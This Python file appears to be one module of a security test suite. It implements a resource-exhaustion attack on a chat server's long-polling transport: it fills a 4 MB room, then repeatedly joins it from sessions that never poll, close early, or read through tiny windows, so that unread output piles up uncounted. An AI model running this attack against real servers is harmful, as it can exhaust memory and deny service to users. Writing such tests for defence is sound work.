"""A large room over polling, unread.

Does: joins a room of 4 MB in four polling sessions of one user, again and again; one never polls, two poll with tiny
    windows and do not read, one ends its session and opens the next one.
Breaks: the output that waits for a poll, or in the kernel behind one, counts for no connection.
Limit: `user-answer-bytes`, `answer-bytes`: an answer counts until the kernel took it, even after its session was
    closed; 64 sessions of an address.
"""

import asyncio
import json

from lines import Line, poll, polling, post
from rooms import fill

PROOF = "unread joins"


async def attack(target):
    room = await fill(target)
    await asyncio.gather(target.crowd(1, keep, room), target.crowd(1, close, room), target.crowd(2, read_none, room))


async def session(target, line):
    sid = await polling(target, line)
    await send(line, sid, "40" + json.dumps({"token": target.token}))
    return sid


async def send(line, sid, packet):
    await line.send(post(sid, packet.encode()))
    await line.response()


async def join(target, line, sid, room):
    await send(line, sid, "421" + json.dumps(["room:join", {"roomId": room}]))
    target.tally("unread joins")
    await target.pause(0.2)


async def keep(target, room):
    """Never polls."""
    async with await Line.open(target) as line:
        sid = await session(target, line)
        for _ in range(20):
            await join(target, line, sid, room)
            await send(line, sid, "42" + json.dumps(["room:leave", {"roomId": room}]))


async def close(target, room):
    """Ends the session before it has polled."""
    async with await Line.open(target) as line:
        for _ in range(20):
            sid = await session(target, line)
            await join(target, line, sid, room)
            await send(line, sid, "1")


async def read_none(target, room):
    """Polls and reads none of the answer."""
    async with await Line.open(target) as line, await Line.open(target, window=2048) as slow:
        sid = await session(target, line)
        await join(target, line, sid, room)
        await slow.send(poll(sid))
        await target.pause(0.5)
